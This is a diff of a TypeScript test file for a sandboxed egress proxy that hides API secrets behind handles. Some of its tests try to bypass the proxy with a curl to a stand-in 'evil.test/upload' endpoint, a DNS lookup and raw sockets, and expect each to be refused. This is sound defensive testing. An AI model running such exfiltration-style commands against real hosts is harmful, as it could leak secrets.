@@ -3,14 +3,17 @@ import type { AddressInfo } from 'node:net';
 import { createServer } from 'node:net';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { repository } from './git-server.ts';
-import { inside } from './inside.ts';
+import { openInside } from './inside.ts';
 import { type Api, api, network, type Run, secretEffects, startRun } from './run.ts';
 
 const value = 'tok-5f0c2b7791aa';
 let server: Api;
 let run: Run;
+let sandbox: Awaited<ReturnType<typeof openInside>>;
+const inside: typeof sandbox.run = (...args) => sandbox.run(...args);
 
 beforeAll(async () => {
+  sandbox = await openInside();
   server = await api((seen, response) => response.end(JSON.stringify({ got: seen.headers.authorization ?? null })));
   const uses = [{ name: 'API_KEY', origin: server.origin, slot: 'header:authorization' }];
   run = await startRun({
@@ -21,6 +24,7 @@ beforeAll(async () => {
 });
 
 afterAll(async () => {
+  await sandbox.close();
   await run.close();
   await server.close();
 });
@@ -49,7 +53,7 @@ print(requests.get('${url}', headers={'Authorization': 'Bearer ' + os.environ['A
   [
     'node',
     (url) => [
-      '/node',
+      '/opt/node',
       '-e',
       `fetch('${url}', {headers: {authorization: 'Bearer ' + process.env.API_KEY}}).then(async (r) => console.log(await r.text()))`,
     ],
@@ -57,7 +61,7 @@ print(requests.get('${url}', headers={'Authorization': 'Bearer ' + os.environ['A
 ];
 
 test.each(clients)('%s works unchanged, with a secret that it never sees', async (name, argv) => {
-  const handle = run.handles.get('API_KEY') ?? '';
+  const handle = run.handle('API_KEY');
   const before = server.seen.length;
   const ended = await inside(run.egress, argv(`${server.origin}/v1/${name}`), { env: { API_KEY: handle } });
   expect([ended.exitCode, ended.stderr, ended.stdout.trim()]).toEqual([
@@ -109,10 +113,10 @@ test('what goes around the proxy goes nowhere', async () => {
     `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${port}), 2)"`,
     `python3 -c "import socket; socket.getaddrinfo('evil.test', 80)"`,
     `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"`,
-    `/node -e "fetch('${url}', {}).then((r) => process.exit(r.status === 403 ? 1 : 0), () => process.exit(1))"`,
+    `/opt/node -e "fetch('${url}', {}).then((r) => process.exit(r.status === 403 ? 1 : 0), () => process.exit(1))"`,
   ]) {
     const { exitCode } = await inside(run.egress, ['sh', '-c', script], {
-      without: script.includes('/node') ? proxies : [],
+      without: script.includes('/opt/node') ? proxies : [],
     });
     codes.push([script, exitCode === 0]);
   }
@@ -134,7 +138,7 @@ test('a direct curl is told why by the body of the answer', async () => {
   const refused = await inside(run.egress, ['curl', '-sS', '-w', '%{http_code}', 'https://evil.test/upload']);
   expect(refused).toEqual({
     exitCode: 0,
-    stdout: expect.stringMatching(/^skillc refused this request: .*evil\.test.*\(plan\/outside-ceiling\)\n403$/s),
+    stdout: expect.stringMatching(/^skillc refused this request: .*evil\.test.*\(ceiling\/network\)\n403$/s),
     stderr: '',
   });
 });
